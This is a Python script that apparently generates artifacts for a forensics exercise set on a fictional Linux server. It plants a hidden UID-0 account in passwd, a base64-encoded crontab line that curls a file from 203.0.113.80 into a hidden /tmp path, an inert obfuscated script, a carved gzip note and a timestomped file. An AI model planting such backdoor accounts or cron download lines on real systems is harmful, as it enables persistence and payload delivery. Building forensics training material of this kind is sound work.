"""What was taken from a fictional Linux server: settings, a script that does nothing, a raw piece of a disk, times."""
import base64
import gzip
import zlib


def make(folder, values, chance):
    users(folder / "1-passwd", values)
    table(folder / "2-crontab", values)
    script(folder / "3-update.py", values, chance)
    disk(folder / "4-disk.raw", values, chance)
    times(folder / "5-bodyfile.csv", values, chance)


def users(file, values):
    rows = ["root:x:0:0:root:/root:/bin/bash"]
    rows += [f"{name}:x:{number}:{number}::/nonexistent:/usr/sbin/nologin" for number, name in enumerate(("daemon", "bin", "sys", "games", "man", "mail", "news", "backup", "www-data"), 1)]
    rows += [f"staff{number}:x:{1000 + number}:1000::/home/staff{number}:/bin/bash" for number in range(1, 40)]
    rows.insert(7, f"svc{values['UID_ZERO']}:x:0:0:service:/var/empty:/bin/bash")
    file.write_text("\n".join(rows) + "\n")


def table(file, values):
    hidden = base64.b64encode(f"curl -s http://203.0.113.80/u/{values['CRON']} -o /tmp/.u".encode()).decode()
    file.write_text(
        "17 * * * * root run-parts /etc/cron.hourly\n25 6 * * * root run-parts /etc/cron.daily\n"
        f"*/10 * * * * www-data echo {hidden} | base64 -d > /dev/null\n47 6 * * 7 root run-parts /etc/cron.weekly\n"
    )


def script(file, values, chance):
    """Three wrappings; what is inside is a text that nothing runs."""
    key = chance.randrange(1, 256)
    inside = f"# word = {values['SCRIPT']}\n".encode()
    wrapped = base64.b85encode(zlib.compress(bytes(byte ^ key for byte in inside), 9)).decode()
    file.write_text(
        "import base64, zlib\n\n"
        f"k = {key ^ 0x5A} ^ 0x5A\n"
        f"d = {wrapped!r}\n"
        "f = lambda s: bytes(b ^ k for b in zlib.decompress(base64.b85decode(s)))\n"
        "# f(d) is never called: this copy was made harmless\n"
    )


def disk(file, values, chance):
    noise = bytearray(chance.randbytes(768 * 1024)).replace(b"\x1f\x8b", b"\x1f\x8c")
    held = gzip.compress(f"deleted note: word={values['CARVE']}\n".encode(), mtime=0)
    noise[301056:301056 + len(held)] = held
    file.write_bytes(noise)


def times(file, values, chance):
    """inode,path,mtime,ctime: one file claims to be older than its own inode's change by years, to the full second."""
    rows = []
    for number in chance.sample(range(100000, 1000000), 900):
        if str(number) == values["STOMPED"]:
            continue
        at = 1784000000 + chance.randrange(500000) + chance.randrange(1, 10**6) / 10**6
        later = at + chance.choice([0, 0, 0, 3600, 90000])
        rows.append(f"{number},/usr/lib/app/part{number}.so,{at:.6f},{later:.6f}")
    for number in chance.sample(range(1000001, 1000400), 60):  # unpacked from archives: old to the full second, all alike
        rows.append(f"{number},/usr/share/doc/text{number},1650000000.000000,1784000000.500000")
    rows.append(f"{values['STOMPED']},/usr/lib/app/helper.so,1650000000.000000,1784411111.204118")
    chance.shuffle(rows)
    file.write_text("inode,path,mtime,ctime\n" + "\n".join(rows) + "\n")
